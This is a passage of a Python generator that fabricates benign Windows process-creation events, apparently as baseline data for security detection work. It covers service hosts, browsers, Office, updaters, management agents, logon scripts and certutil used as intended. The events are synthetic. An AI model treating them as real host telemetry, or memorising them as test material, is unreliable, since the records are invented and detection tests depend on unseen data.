    parts = [f"-k {g}", G.c(["-p", "-p", ""]), G.c([f"-s {G.c(svcs)}", "", f"-s {G.c(svcs)}"])]
    cmd = f"{G.c(['C:' + BS + 'Windows' + BS + 'system32' + BS + 'svchost.exe', 'C:' + BS + 'WINDOWS' + BS + 'system32' + BS + 'svchost.exe', 'C:' + BS + 'Windows' + BS + 'System32' + BS + 'svchost.exe'])} {' '.join(p for p in parts if p)}"
    run = {"NetworkService": "netsvc", "LocalService": "localsvc", "LocalServiceNetworkRestricted": "localsvc"}.get(g, "system")
    return {"img": SYS + "\\svchost.exe", "cmd": cmd, "pimg": SYS + "\\services.exe", "pcmd": G.c(["C:\\WINDOWS\\system32\\services.exe", "C:\\Windows\\system32\\services.exe"]),
            "run": run, "prun": "system", "cwd": "C:\\Windows\\system32\\"}


@B("win-service-host-binaries", "windows", "services.exe starting ordinary service binaries (spooler, VSS, search, Defender, SQL, vendor agents) from their install folders")
def _(c):
    img, cmd, run = G.c([(SYS + "\\spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe", "system"), (SYS + "\\VSSVC.exe", "C:\\Windows\\system32\\vssvc.exe", "system"),
                         (SYS + "\\SearchIndexer.exe", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", "system"),
                         (SYS + "\\sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe", "netsvc"), (SYS + "\\SgrmBroker.exe", "C:\\Windows\\system32\\SgrmBroker.exe", "system"),
                         (SYS + "\\SecurityHealthService.exe", "C:\\Windows\\system32\\SecurityHealthService.exe", "system"),
                         ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe\"", "system"),
                         ("C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe", "\"C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe\" --flagfile=\"C:\\Program Files\\osquery\\osquery.flags\" --service", "system"),
                         ("C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe", "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER", "sql"),
                         ("C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe", "\"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe\" service", "system")])
    return {"img": img, "cmd": cmd, "pimg": SYS + "\\services.exe", "pcmd": "C:\\Windows\\system32\\services.exe", "run": run, "prun": "system", "cwd": "C:\\Windows\\system32\\"}


@B("win-conhost-console-host", "windows", "conhost.exe 0xffffffff -ForceV1 attached to every console program: pure background")
def _(c):
    pimg, pcmd = G.c([interactive_shell(), (SYS + "\\cmd.exe", "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Program Files\\Dell\\CommandUpdate\\dcu-cli.exe\" /scan\""),
                      ("C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe", "\"C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe\" --service"),
                      (SYS + "\\sc.exe", "sc query wuauserv")])
    return {"img": SYS + "\\conhost.exe", "cmd": G.c(["\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "\\??\\C:\\WINDOWS\\system32\\conhost.exe 0xffffffff -ForceV1",
                                                      "C:\\Windows\\system32\\conhost.exe 0x4"]),
            "pimg": pimg, "pcmd": pcmd, "run": G.c(["user", "system", "useradmin"])}


@B("win-dllhost-com-surrogate", "windows", "dllhost /Processid:{CLSID} started by svchost's DCOM launcher: a COM surrogate for thumbnails, shell extensions and similar")
def _(c):
    clsid = G.c(["{3EB3C877-1F16-487C-9050-104DBCD66683}", "{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", "{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}",
                 "{E10F6C3A-F1AE-4ADC-AA9D-2FE65525666E}", "{76D0CB12-7604-4048-B83C-1005C7DDC503}", "{F9717507-6651-4EDB-BFF7-AE615179BCCF}"])
    return {"img": SYS + "\\dllhost.exe", "cmd": f"{G.c(['C:' + BS + 'WINDOWS' + BS + 'system32' + BS + 'DllHost.exe', 'C:' + BS + 'Windows' + BS + 'system32' + BS + 'DllHost.exe'])} /Processid:{clsid}",
            "pimg": SYS + "\\svchost.exe", "pcmd": "C:\\WINDOWS\\system32\\svchost.exe -k DcomLaunch -p", "run": G.c(["user", "user", "system"]), "prun": "system"}


@B("win-broker-and-task-hosts", "windows", "RuntimeBroker, backgroundTaskHost, taskhostw and SearchProtocolHost started by their usual system parents")
def _(c):
    img, cmd, pimg, pcmd = G.c([
        (SYS + "\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k DcomLaunch -p"),
        (SYS + "\\backgroundTaskHost.exe", f"\"C:\\WINDOWS\\system32\\backgroundTaskHost.exe\" -ServerName:{G.c(['App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca', 'BackgroundTaskHost.WebAccountProvider', 'CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca'])}",
         SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k DcomLaunch -p"),
        (SYS + "\\taskhostw.exe", G.c(["taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", "taskhostw.exe", "taskhostw.exe Install $(Arg0)", "taskhostw.exe KEYROAMING"]),
         SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
        (SYS + "\\SearchProtocolHost.exe", f"\"C:\\WINDOWS\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{R.randint(1, 300)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{R.randint(1, 300)} 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\"",
         SYS + "\\SearchIndexer.exe", "C:\\WINDOWS\\system32\\SearchIndexer.exe /Embedding"),
        (SYS + "\\SearchFilterHost.exe", "\"C:\\WINDOWS\\system32\\SearchFilterHost.exe\" 0 828 832 840 8192 836 812", SYS + "\\SearchIndexer.exe", "C:\\WINDOWS\\system32\\SearchIndexer.exe /Embedding")])
    run = "system" if "Search" in img else "user"
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": run, "prun": "system", "cwd": "C:\\Windows\\system32\\"}


@B("win-wmiprvse-embedding", "windows", "WmiPrvSE -secured -Embedding started by the DCOM launcher to serve WMI queries from management agents")
def _(c):
    return {"img": SYS + "\\wbem\\WmiPrvSE.exe", "cmd": G.c(["C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "C:\\WINDOWS\\system32\\wbem\\wmiprvse.exe -Embedding", "C:\\Windows\\sysWOW64\\wbem\\wmiprvse.exe -secured -Embedding"]),
            "pimg": SYS + "\\svchost.exe", "pcmd": "C:\\WINDOWS\\system32\\svchost.exe -k DcomLaunch -p", "run": G.c(["netsvc", "system", "localsvc"]), "prun": "system", "cwd": "C:\\Windows\\system32\\"}


@B("win-servicing-stack", "windows", "TrustedInstaller and TiWorker applying updates, DismHost and CompatTelRunner appraisals: Windows servicing")
def _(c):
    img, cmd, pimg, pcmd = G.c([
        (SYS + "\\TiWorker.exe", f"C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.{R.randint(3900, 4400)}_none_{G.hx(16)}\\TiWorker.exe -Embedding", SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k DcomLaunch -p"),
        ("C:\\Windows\\servicing\\TrustedInstaller.exe", "C:\\Windows\\servicing\\TrustedInstaller.exe", SYS + "\\services.exe", "C:\\WINDOWS\\system32\\services.exe"),
        (f"C:\\Windows\\Temp\\{G.guid().upper()}\\DismHost.exe", f"C:\\WINDOWS\\TEMP\\{G.guid().upper()}\\dismhost.exe {{{G.guid().upper()}}}", SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s wuauserv"),
        (SYS + "\\CompatTelRunner.exe", G.c(["C:\\WINDOWS\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun", "C:\\Windows\\system32\\CompatTelRunner.exe -m:invagent.dll -f:RunUpdate", "C:\\WINDOWS\\system32\\compattelrunner.exe -maintenance"]),
         SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule")])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": "system", "cwd": "C:\\Windows\\system32\\"}


@B("win-defender-maintenance", "windows", "MpCmdRun signature updates, scans and cache maintenance started by Defender or the scheduler")
def _(c):
    plat = f"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.{G.c(['24030.9', '24020.7', '23110.3'])}-0"
    img = G.c([plat + "\\MpCmdRun.exe", "C:\\Program Files\\Windows Defender\\MpCmdRun.exe"])
    args = G.c(["-SignatureUpdate -MMPC", "SignaturesUpdateService -ScheduleJob -RestrictPrivileges", "-wdenable", "Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob",
                "-IdleTask -TaskName WdCacheMaintenance", "-SignatureUpdate -ScheduleJob -RestrictPrivileges", "GetDeviceTicket -AccessKey " + G.guid().upper()])
    pimg, pcmd = G.c([(plat + "\\MsMpEng.exe", f"\"{plat}\\MsMpEng.exe\""), (SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule")])
    return {"img": img, "cmd": f"\"{img}\" {args}", "pimg": pimg, "pcmd": pcmd, "run": G.c(["system", "netsvc"]), "prun": "system", "cwd": "C:\\Windows\\system32\\"}


@B("win-app-updaters", "windows", "Edge, Google, OneDrive and Teams updaters started on schedule from their own install folders")
def _(c):
    pf86 = "C:\\Program Files (x86)"
    img, cmd, run = G.c([
        (pf86 + "\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", f"\"{pf86}\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" {G.c(['/ua /installsource scheduler', '/c', '/svc', '/ping PD94bWwgdmVyc2lvbj0iMS4wIiBlbmNvZGluZz0iVVRGLTgiPz4'])}", "system"),
        (pf86 + "\\Google\\Update\\GoogleUpdate.exe", f"\"{pf86}\\Google\\Update\\GoogleUpdate.exe\" {G.c(['/ua /installsource scheduler', '/c', '/svc'])}", "system"),
        (f"{c.home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", f"\"{c.home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe\" {G.c(['/reporting', '', '/silentConfig'])}".strip(), "user"),
        (f"{c.home}\\AppData\\Local\\Microsoft\\Teams\\Update.exe", f"\"{c.home}\\AppData\\Local\\Microsoft\\Teams\\Update.exe\" --processStart \"Teams.exe\" --process-start-args \"--system-initiated\"", "user"),
        ("C:\\Program Files\\Google\\Chrome\\Application\\124.0.6367.119\\Installer\\setup.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\124.0.6367.119\\Installer\\setup.exe\" --type=crashpad-handler /prefetch:7 --monitor-self-annotation=ptype=crashpad-handler --database=C:\\Windows\\SystemTemp\\Crashpad", "system")])
    pimg, pcmd = (SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule") if run == "system" or R.random() < 0.5 else explorer()
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": run, "prun": "system" if pimg.endswith("svchost.exe") else run}


@B("win-browser-child-processes", "windows", "Edge, Chrome and Firefox starting renderer, GPU, utility and crashpad children with their long flag lists", n=13)
def _(c):
    k = R.randint(0, 2)
    if k == 0:
        exe = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
        ver = "124.0.2478.80"
        udd = f"{c.home}\\AppData\\Local\\Microsoft\\Edge\\User Data"
    elif k == 1:
        exe = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
        ver = "124.0.6367.119"
        udd = f"{c.home}\\AppData\\Local\\Google\\Chrome\\User Data"
    else:
        exe = "C:\\Program Files\\Mozilla Firefox\\firefox.exe"
        n = R.randint(1, 60)
        cmd = f"\"{exe}\" -contentproc --channel=\"{R.randint(1000, 9999)}.{R.randint(0, 9)}.{R.randint(100000000, 999999999)}\" -childID {n} -isForBrowser -prefsHandle {R.randint(1000, 9999)} -prefMapHandle {R.randint(1000, 9999)} -prefsLen {R.randint(20000, 40000)} -prefMapSize 244583 -jsInitHandle 1288 -jsInitLen 235304 -parentBuildID 20240429142156 -greomni \"C:\\Program Files\\Mozilla Firefox\\omni.ja\" -appomni \"C:\\Program Files\\Mozilla Firefox\\browser\\omni.ja\" -appDir \"C:\\Program Files\\Mozilla Firefox\\browser\" - {R.randint(1000, 9999)} \"\\\\.\\pipe\\gecko-crash-server-pipe.{R.randint(1000, 9999)}\" {G.c(['tab', 'rdd', 'gpu', 'utility'])}"
        return {"img": exe, "cmd": cmd, "pimg": exe, "pcmd": f"\"{exe}\"", "run": "user", "cwd": "C:\\Program Files\\Mozilla Firefox\\"}
    t = G.c(["renderer", "renderer", "gpu-process", "utility", "crashpad-handler"])
    extra = {"renderer": f"--lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={R.randint(5, 300)} --time-ticks-at-unix-epoch=-{R.randint(1700000000000000, 1719999999999999)} --launch-time-ticks={R.randint(10000000, 999999999)} --mojo-platform-channel-handle={R.randint(1000, 9999)} --field-trial-handle={R.randint(1000, 9999)},i,{R.randint(10**17, 10**18)},{R.randint(10**17, 10**18)},262144 /prefetch:1",
             "gpu-process": f"--no-appcompat-clear --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAAAAAAAAAAAEAAAAAAAAAAQAAAAAAAAAAgAAAAAAAAACAAAAAAAAAA= --mojo-platform-channel-handle={R.randint(1000, 9999)} --field-trial-handle={R.randint(1000, 9999)},i,{R.randint(10**17, 10**18)},{R.randint(10**17, 10**18)},262144 /prefetch:2",
             "utility": f"--utility-sub-type={G.c(['network.mojom.NetworkService', 'storage.mojom.StorageService', 'audio.mojom.AudioService'])} --lang=en-US --service-sandbox-type={G.c(['none', 'service', 'audio'])} --mojo-platform-channel-handle={R.randint(1000, 9999)} --field-trial-handle={R.randint(1000, 9999)},i,{R.randint(10**17, 10**18)},{R.randint(10**17, 10**18)},262144 /prefetch:{G.c(['3', '8'])}",
             "crashpad-handler": f"\"--user-data-dir={udd}\" /prefetch:4 --monitor-self-annotation=ptype=crashpad-handler \"--database={udd}\\Crashpad\" --annotation=plat=Win64 --annotation=prod={'Edge' if k == 0 else 'Chrome'} --annotation=ver={ver} --initial-client-data=0x{G.hx(3)},0x{G.hx(3)},0x{G.hx(3)},0x{G.hx(3)},0x{G.hx(3)},0x7ff{G.hx(9)}"}[t]
    cmd = f"\"{exe}\" --type={t} {extra}"
    return {"img": exe, "cmd": cmd, "pimg": exe, "pcmd": f"\"{exe}\" {G.c(['--profile-directory=Default', '', '--single-argument https://intranet.corp.example.com/'])}".strip(), "run": "user",
            "cwd": exe.rsplit("\\", 1)[0] + "\\" + ver + "\\"}


@B("win-office-opens-document", "windows", "Word, Excel, PowerPoint or Outlook started by explorer or Outlook to open an ordinary document from the user's folders or a share")
def _(c):
    oimg, oname, _ext = G.c(OFFICE)
    ext = {"WINWORD.EXE": ".docx", "EXCEL.EXE": ".xlsx", "POWERPNT.EXE": ".pptx", "OUTLOOK.EXE": ""}[oname]
    doc = G.c([f"{c.home}\\Documents\\{G.c(['Budget 2024', 'Team roster', 'Meeting notes', 'Quarterly review', 'Travel plan'])}{ext}",
               f"\\\\{G.c(FILESERVERS)}\\{G.c(['Finance', 'Projects', 'HR'])}\\{G.c(['forecast', 'handbook', 'status'])}{ext}",
               f"{c.home}\\OneDrive - Example Corp\\{G.c(['Shared', 'Drafts'])}\\{G.c(['roadmap', 'q3-plan', 'report'])}{ext}"])
    if oname == "OUTLOOK.EXE":
        cmd = G.c([f"\"{oimg}\" ", f"\"{oimg}\" /recycle", f"\"{oimg}\" /select outlook:Inbox"])
    elif oname == "EXCEL.EXE":
        cmd = f"\"{oimg}\" \"{doc}\""
    else:
        cmd = f"\"{oimg}\" /n \"{doc}\"{G.c(['', ' /o ' + Q + 'u' + Q + ''])}"
    pimg, pcmd = G.c([explorer(), explorer(), ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ")])
    return {"img": oimg, "cmd": cmd, "pimg": pimg, "pcmd": pcmd}


@B("win-windows-update-agents", "windows", "UsoClient, MoUsoCoreWorker and wuauclt scanning for and installing Windows updates")
def _(c):
    img, cmd = G.c([(SYS + "\\usoclient.exe", f"C:\\WINDOWS\\system32\\usoclient.exe {G.c(['StartScan', 'StartInstall', 'ScanInstallWait', 'StartDownload', 'RefreshSettings'])}"),
                    (SYS + "\\MoUsoCoreWorker.exe", "C:\\WINDOWS\\System32\\mousocoreworker.exe -Embedding"),
                    (SYS + "\\wuauclt.exe", f"\"C:\\WINDOWS\\system32\\wuauclt.exe\" /RunHandlerComServer"),
                    (SYS + "\\wuauclt.exe", f"C:\\Windows\\system32\\wuauclt.exe /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId {G.guid()} /RunHandlerComServer")])
    return {"img": img, "cmd": cmd, "pimg": SYS + "\\svchost.exe", "pcmd": G.c(["C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s UsoSvc", "C:\\WINDOWS\\system32\\svchost.exe -k DcomLaunch -p", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv"]),
            "run": "system", "cwd": "C:\\Windows\\system32\\"}


@B("win-endpoint-management-agents", "windows", "SCCM and Intune agents running their own PowerShell and tools from their Program Files or ccm folders, execution policy bypass included, as designed")
def _(c):
    k = R.randint(0, 3)
    ime = "C:\\Program Files (x86)\\Microsoft Intune Management Extension"
    if k == 0:
        pol = f"{ime}\\Policies\\Scripts\\{G.guid()}_{G.guid()}.ps1"
        return {"img": "C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe", "cmd": f"\"C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -executionPolicy bypass -file  \"{pol}\" ",
                "pimg": f"{ime}\\AgentExecutor.exe", "pcmd": f"\"{ime}\\agentexecutor.exe\"  -powershell  \"{pol}\" \"{ime}\\Policies\\Results\\{G.guid()}.output\" ...", "run": "system"}
    if k == 1:
        det = f"{ime}\\Content\\DetectionScripts\\{G.guid()}_1.ps1"
        return {"img": f"{ime}\\AgentExecutor.exe", "cmd": f"\"{ime}\\agentexecutor.exe\"  -powershellDetection  \"{det}\" \"{ime}\\Content\\DetectionScripts\\{G.guid()}.output\" ...  60000 \"C:\\Windows\\SysNative\\WindowsPowerShell\\v1.0\\powershell.exe\" 0",
                "pimg": f"{ime}\\Microsoft.Management.Services.IntuneWindowsAgent.exe", "pcmd": f"\"{ime}\\Microsoft.Management.Services.IntuneWindowsAgent.exe\"", "run": "system"}
    if k == 2:
        return {"img": PS, "cmd": f"\"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass \"& 'C:\\WINDOWS\\CCM\\SystemTemp\\{G.guid()}.ps1'\"",
                "pimg": "C:\\Windows\\CCM\\CcmExec.exe", "pcmd": "C:\\WINDOWS\\CCM\\CcmExec.exe", "run": "system"}
    return {"img": "C:\\Windows\\CCM\\CcmEval.exe", "cmd": G.c(["C:\\WINDOWS\\CCM\\CcmEval.exe", "\"C:\\Windows\\CCM\\ccmrepair.exe\""]),
            "pimg": SYS + "\\svchost.exe", "pcmd": "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule", "run": "system"}


@B("win-monitoring-agents", "windows", "Splunk forwarder, winlogbeat and osquery agents starting their helpers and inventory queries")
def _(c):
    sp = "C:\\Program Files\\SplunkUniversalForwarder\\bin"
    img, cmd, pimg, pcmd = G.c([
        (f"{sp}\\splunk-winprintmon.exe", f"\"{sp}\\splunk-winprintmon.exe\"", f"{sp}\\splunkd.exe", f"\"{sp}\\splunkd.exe\" service"),
        (f"{sp}\\splunk-powershell.exe", f"\"{sp}\\splunk-powershell.exe\" --ps2", f"{sp}\\splunkd.exe", f"\"{sp}\\splunkd.exe\" service"),
        (f"{sp}\\splunk-regmon.exe", f"\"{sp}\\splunk-regmon.exe\"", f"{sp}\\splunkd.exe", f"\"{sp}\\splunkd.exe\" service"),
        (f"{sp}\\btool.exe", f"\"{sp}\\btool.exe\" --check", f"{sp}\\splunkd.exe", f"\"{sp}\\splunkd.exe\" service"),
        ("C:\\Program Files\\Elastic\\Beats\\8.13.4\\winlogbeat\\winlogbeat.exe", "\"C:\\Program Files\\Elastic\\Beats\\8.13.4\\winlogbeat\\winlogbeat.exe\" --path.home \"C:\\Program Files\\Elastic\\Beats\\8.13.4\\winlogbeat\" --path.config \"C:\\ProgramData\\Elastic\\Beats\\winlogbeat\" --path.data \"C:\\ProgramData\\Elastic\\Beats\\winlogbeat\\data\" --path.logs \"C:\\ProgramData\\Elastic\\Beats\\winlogbeat\\logs\" -E logging.files.redirect_stderr=true",
         SYS + "\\services.exe", "C:\\WINDOWS\\system32\\services.exe"),
        ("C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe", "\"C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe\" --flagfile=\"C:\\Program Files\\osquery\\osquery.flags\" --worker",
         "C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe", "\"C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe\" --flagfile=\"C:\\Program Files\\osquery\\osquery.flags\" --service")])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": "system", "cwd": "C:\\Windows\\system32\\"}


@B("win-software-installs", "windows", "msiexec and vendor setup programs installing or repairing software from the installer cache, Program Files or a software share")
def _(c):
    img, cmd, pimg, pcmd, run = G.c([
        (SYS + "\\msiexec.exe", f"C:\\Windows\\System32\\MsiExec.exe -Embedding {G.hx(32).upper()} {G.c(['C', 'E Global' + BS + 'MSI0000', ''])}".strip(), SYS + "\\msiexec.exe", "C:\\WINDOWS\\system32\\msiexec.exe /V", "system"),
        (SYS + "\\msiexec.exe", f"\"C:\\WINDOWS\\system32\\msiexec.exe\" /i \"C:\\Windows\\ccmcache\\{G.name(2)}\\{G.c(['GoogleChromeStandaloneEnterprise64.msi', 'AcroRead.msi', '7z2301-x64.msi', 'Zoom.msi'])}\" /qn /norestart", "C:\\Windows\\CCM\\CcmExec.exe", "C:\\WINDOWS\\CCM\\CcmExec.exe", "system"),
        (SYS + "\\msiexec.exe", f"\"C:\\Windows\\System32\\msiexec.exe\" /i \"{c.home}\\Downloads\\{G.c(['node-v20.12.2-x64.msi', 'python-3.11.9-amd64.msi', 'Git-2.45.0-64-bit.msi', 'PowerShell-7.4.2-win-x64.msi'])}\"", *explorer(), "useradmin"),
        (f"C:\\Program Files\\{G.c(['Notepad++', '7-Zip', 'VideoLAN' + BS + 'VLC'])}\\uninstall.exe", None, *explorer(), "useradmin"),
        (f"\\\\{G.c(FILESERVERS)}\\software\\{G.c(['Adobe', 'Citrix', 'Dell'])}\\setup.exe", None, CMD, "cmd /c \\\\fs01\\software\\install.cmd", "system")])
    if cmd is None:
        cmd = f"\"{img}\" {G.c(['/S', '/silent', '/quiet /norestart', '/S /D=C:' + BS + 'Program Files' + BS + 'App'])}"
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": run}


@B("win-group-policy-logon-scripts", "windows", "gpupdate, gpscript and logon batch files from the domain's SYSVOL or NETLOGON mapping drives and printers")
def _(c):
    sysvol = f"\\\\{c.suffix}\\SysVol\\{c.suffix}\\Policies\\{{{G.guid().upper()}}}\\User\\Scripts\\Logon"
    img, cmd, pimg, pcmd, run = G.c([
        (SYS + "\\gpscript.exe", G.c(["gpscript.exe /Logon", "gpscript.exe /RefreshSystemParam", "gpscript.exe /startup"]), SYS + "\\svchost.exe", "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s gpsvc", "user"),
        (CMD, f"C:\\WINDOWS\\system32\\cmd.exe /c \"\"{sysvol}\\{G.c(['map_drives.bat', 'logon.cmd', 'printers.bat'])}\" \"", SYS + "\\gpscript.exe", "gpscript.exe /Logon", "user"),
        (CMD, f"C:\\Windows\\system32\\cmd.exe /c \"\\\\{c.suffix}\\NETLOGON\\{G.c(['logon.bat', 'drives.cmd', 'set-env.bat'])}\"", SYS + "\\userinit.exe", "C:\\Windows\\system32\\userinit.exe", "user"),
        (SYS + "\\gpupdate.exe", G.c(["gpupdate /force", "gpupdate.exe /target:user", "\"C:\\Windows\\system32\\gpupdate.exe\" /force /wait:0"]), *interactive_shell(), "user"),
        (SYS + "\\net.exe", f"net use {G.c(['H:', 'S:', 'P:'])} \\\\{G.c(FILESERVERS)}\\{G.c(['home$', 'shared', 'dept'])}\\{c.user} /persistent:no", CMD, f"C:\\WINDOWS\\system32\\cmd.exe /c \"{sysvol}\\map_drives.bat\"", "user")])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": run}


@B("win-explorer-user-apps", "windows", "explorer starting the applications a user clicks: Teams, Outlook, Notepad, VS Code, Task Manager, a PDF reader")
def _(c):
    img, cmd = G.c([(SYS + "\\notepad.exe", f"\"C:\\Windows\\system32\\NOTEPAD.EXE\" {c.home}\\Documents\\{G.c(['notes.txt', 'todo.txt', 'config.ini'])}"),
                    (f"{c.home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", f"\"{c.home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" "),
                    ("C:\\Program Files\\WindowsApps\\MSTeams_24091.214.2846.1452_x64__8wekyb3d8bbwe\\ms-teams.exe", "\"C:\\Program Files\\WindowsApps\\MSTeams_24091.214.2846.1452_x64__8wekyb3d8bbwe\\ms-teams.exe\" msteams:system-initiated"),
                    (SYS + "\\Taskmgr.exe", "\"C:\\WINDOWS\\system32\\taskmgr.exe\" /4"), (SYS + "\\mmc.exe", "\"C:\\WINDOWS\\system32\\mmc.exe\" \"C:\\WINDOWS\\system32\\devmgmt.msc\""),
                    ("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", f"\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\" \"{c.home}\\Downloads\\{G.c(['statement', 'boarding-pass', 'manual'])}.pdf\""),
                    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ")])
    return {"img": img, "cmd": cmd, "pimg": EXPLORER[0], "pcmd": EXPLORER[1], "cwd": c.home + "\\"}


@B("win-user-console-basics", "windows", "cmd and PowerShell consoles opened from explorer or Windows Terminal, and their plain file-listing or navigation one-liners")
def _(c):
    img, cmd = G.c([(CMD, "\"C:\\WINDOWS\\system32\\cmd.exe\" "), (PS, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" "),
                    (CMD, f"cmd.exe /c dir \"{c.home}\\Documents\" /s /b"), (CMD, f"cmd /c cd /d {c.home}\\source && dir"),
                    ("C:\\Program Files\\PowerShell\\7\\pwsh.exe", "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo"),
                    (CMD, "C:\\WINDOWS\\system32\\cmd.exe /k \"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\Tools\\VsDevCmd.bat\"")])
    pimg, pcmd = G.c([explorer(), ("C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.19.11213.0_x64__8wekyb3d8bbwe\\WindowsTerminal.exe", "wt.exe")])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "cwd": c.home + "\\"}


@B("win-certutil-admin-verify", "windows", "certutil used as intended: hashing a download, verifying a certificate chain, dumping a cert store: no URL cache, no decode")
def _(c):
    f = f"{c.home}\\Downloads\\{G.c(['ubuntu-22.04.4-live-server-amd64.iso', 'VSCodeUserSetup-x64-1.89.1.exe', 'Git-2.45.0-64-bit.exe', 'rufus-4.4.exe', 'driver_pack.zip'])}"
    cmd = G.c([f"certutil -hashfile \"{f}\" SHA256", f"certutil.exe -hashfile {f} MD5", f"certutil -verify -urlfetch C:\\certs\\{G.c(['web01', 'vpn', 'ldaps'])}.cer",
               "certutil -store My", "certutil -viewstore -enterprise NTAuth", "certutil -pulse", "certutil -verifystore Root"])
    pimg, pcmd = interactive_shell()
    return {"img": SYS + "\\certutil.exe", "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["user", "useradmin", "admin"])}


@B("win-backup-and-shadow-admin", "windows", "listing shadow copies and running scheduled backups: vssadmin list, wbadmin start backup by the backup job, the backup agent's own VSS calls")
def _(c):
    c.server = True
    c.host = G.c(["SRV-FS01", "SRV-BKP01", "SRV-SQL01", "SRV-APP02"])
    c.fqdn = f"{c.host}.{c.suffix}"
